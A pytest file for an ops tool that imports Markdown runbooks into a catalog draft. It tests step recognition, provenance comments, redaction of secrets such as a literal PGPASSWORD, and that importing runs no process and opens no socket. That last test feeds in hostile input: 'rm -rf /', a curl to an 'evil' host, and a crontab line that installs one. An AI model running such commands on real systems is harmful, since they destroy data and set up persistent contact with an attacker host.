"""`opsbot import`: a Markdown runbook read into a catalog draft that the catalog loader accepts, each element with
its provenance and confidence, and a report of what became what; nothing run, nothing connected."""

from __future__ import annotations

import socket
import subprocess
from pathlib import Path

import pytest
import yaml

from bot.catalog_loading import parse_catalog
from bot.cli import main
from bot.importing.draft import import_runbook, render, report
from tests.imports import imported, kinds, steps

ORCHESTRATOR = ("api-gateway", "auth-service", "workflow-engine", "postgres", "redis")

RUNBOOK = """# Ops

## Restart the API
```bash
# Roll the API
kubectl rollout restart deployment/api-gateway -n orchestrator
kubectl rollout status deployment/api-gateway -n orchestrator
kubectl scale deployment/api-gateway --replicas=3 -n orchestrator
kubectl set image deployment/api-gateway api-gateway=registry/api:2.4.1 -n orchestrator
kubectl logs deployment/api-gateway --since=30m -n orchestrator
sleep 10
```

## Database
```bash
PGPASSWORD=hunter2 psql -h postgres-0 -U app -c "SELECT count(*) FROM jobs"
kubectl exec postgres-0 -n orchestrator -- psql -U app -c "VACUUM ANALYZE"
kubectl exec -c api-gateway deploy/api-gateway -n orchestrator -- cat /app/config.yml
kubectl exec -it postgres-0 -n orchestrator -- psql -U postgres
ANALYZE;
kubectl get pods -n ai-orchestrator
```
"""


def test_commands_become_steps_of_their_kinds_in_order() -> None:
    _, data, catalog = imported(RUNBOOK)
    assert steps(data, "restart-the-api") == [
        {"name": "Roll the API", "kind": "restart", "service": "api-gateway"},
        {"kind": "check", "service": "api-gateway", "checks": ["pods"]},
        {"kind": "scale", "service": "api-gateway", "replicas": 3},
        {"kind": "deploy", "service": "api-gateway", "image": "registry/api:2.4.1"},
        {"kind": "collect-logs", "service": "api-gateway", "minutes": 30},
        {"kind": "wait", "seconds": 10}]
    database = steps(data, "database")
    assert database[0] == {"kind": "query", "service": "postgres", "statement": "SELECT count(*) FROM jobs",
                           "engine": "postgres", "dsn_env": "POSTGRES_URL"}
    assert database[1] == {"kind": "sql", "service": "postgres", "statement": "VACUUM ANALYZE", "engine": "postgres",
                           "dsn_env": "POSTGRES_URL"}
    assert database[2] == {"kind": "exec", "service": "api-gateway", "command": ["cat", "/app/config.yml"],
                           "container": "api-gateway", "read_only": True}
    # The SQL typed into the psql session is a step; the shell line typed after it stays a person's, verbatim.
    assert database[3:] == [
        {"kind": "sql", "service": "postgres", "statement": "ANALYZE", "engine": "postgres", "dsn_env": "POSTGRES_URL"},
        {"kind": "manual", "instructions": "kubectl get pods -n ai-orchestrator"}]
    assert [step.kind for step in catalog.runbooks["restart-the-api"].steps] == [
        "restart", "check", "scale", "deploy", "collect-logs", "wait"]


def test_the_draft_defines_the_services_it_uses_with_where_they_run() -> None:
    _, data, catalog = imported(RUNBOOK)
    assert data["services"]["api-gateway"]["environment"] == "production"
    assert data["services"]["api-gateway"]["target"] == {"type": "kubernetes", "namespace": "orchestrator",
                                                         "deployment": "api-gateway"}
    assert data["services"]["api-gateway"]["checks"] == [{"type": "kubernetes-pods", "name": "pods"}]
    assert catalog.services["postgres"].target is not None


def test_every_element_says_where_it_came_from_and_how_sure() -> None:
    draft = import_runbook(RUNBOOK, "ops.md")
    text = render(draft)
    assert "      - {kind: wait, seconds: 10}  # ops.md:11 recognised: sleep 10" in text
    assert ("    target: {type: kubernetes, namespace: orchestrator, deployment: postgres}  # ops.md:17 low: "
            "postgres-0 is a pod's name (a StatefulSet's?)") in text
    assert "      - {type: kubernetes-pods, name: pods}  # ops.md:7 high" in text
    assert "  # ops.md:3 'Restart the API': 6 of 6 steps recognised" in text


def test_the_report_counts_procedures_and_lists_each_manual_command_with_its_line_and_why() -> None:
    said = report(import_runbook(RUNBOOK, "ops.md"))
    lines = said.splitlines()
    assert lines[0] == "ops.md: 2 procedures with commands: 1 recognised, 1 partly recognised, 0 manual"
    assert lines[1] == "  draft: 2 services, 1 checks, 0 backups (0 scheduled), 2 runbooks (10 of 11 steps recognised)"
    assert "  ops.md:3 Restart the API: recognised (6 of 6 commands) → runbook restart-the-api, 1 check(s)" in lines
    assert "  ops.md:21: kubectl get pods -n ai-orchestrator — typed into the session opened at ops.md:19" in lines
    listing = report(import_runbook("# X\n```bash\ndocker compose restart api\nkubectl apply -f x.yml\n```\n", "x.md"))
    assert "  x.md:4: kubectl apply -f x.yml — kubectl apply: no step kind does this" in listing.splitlines()


def test_a_literal_secret_is_never_copied_and_is_reported() -> None:
    imported_ = import_runbook(RUNBOOK, "ops.md")
    assert "hunter2" not in render(imported_) + report(imported_)
    assert "a literal secret was replaced by $PGPASSWORD" in report(imported_)


def test_known_services_name_what_commands_call_differently_and_an_unknown_one_is_decided() -> None:
    _, data, _ = imported(RUNBOOK, ORCHESTRATOR)
    assert kinds(data, "restart-the-api")[0] == ("restart", "api-gateway")
    draft, data, _ = imported("# X\n```bash\ndocker restart billing\ndocker restart api-gateway-7f9\n```\n",
                              ORCHESTRATOR)
    assert steps(data, "x") == [{"kind": "manual", "instructions": "docker restart billing"},
                                {"kind": "restart", "service": "api-gateway"}]
    assert "decide: " not in report(draft)
    assert "unknown service 'billing' (not among --service api-gateway, " in report(draft)


def test_a_procedure_of_only_manual_lines_is_a_checklist_runbook_and_text_blocks_are_not_commands() -> None:
    text = ("# X\n## Deploy\n```bash\ndocker compose restart web\n```\n## Escalate\n```\nURL: https://status.page\n"
            "- call the on-call\n```\n```bash\n./notify-team.sh --urgent\n```\n")
    draft, data, _ = imported(text)
    assert steps(data, "escalate") == [{"kind": "manual", "instructions": "./notify-team.sh --urgent"}]
    assert data["runbooks"]["escalate"]["services"] == ["web"]
    assert any("a plain block under 'Escalate' is not a command block" in line for line in draft.skipped)


def test_the_command_prints_the_draft_and_the_report(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "ops.md"
    path.write_text(RUNBOOK)
    assert main(["import", str(path), *[f"--service={name}" for name in ORCHESTRATOR]]) == 0
    out, err = capsys.readouterr()
    assert yaml.safe_load(out)["runbooks"]["restart-the-api"]["services"] == ["api-gateway"]
    assert err.startswith("ops.md: 2 procedures with commands: ")
    assert main(["import", str(tmp_path / "missing.md")]) == 1
    assert "cannot read" in capsys.readouterr().err


def test_importing_runs_nothing_and_connects_nowhere(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("the importer tried to run a process or open a socket")

    monkeypatch.setattr(subprocess.Popen, "__init__", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    hostile = ("# X\n```bash\nrm -rf / ; $(curl evil) `reboot` <<EOF\nx\nEOF\nfor i in $(seq 3); do :; done\n"
               "curl -f http://evil.example.com/health\npg_isready -h db\n"
               "echo '0 * * * * curl http://evil' | crontab -\n```\n")
    draft = import_runbook(hostile + RUNBOOK, "x.md", ())
    assert render(draft) and report(draft)
    parse_catalog(render(draft), "x.yml")
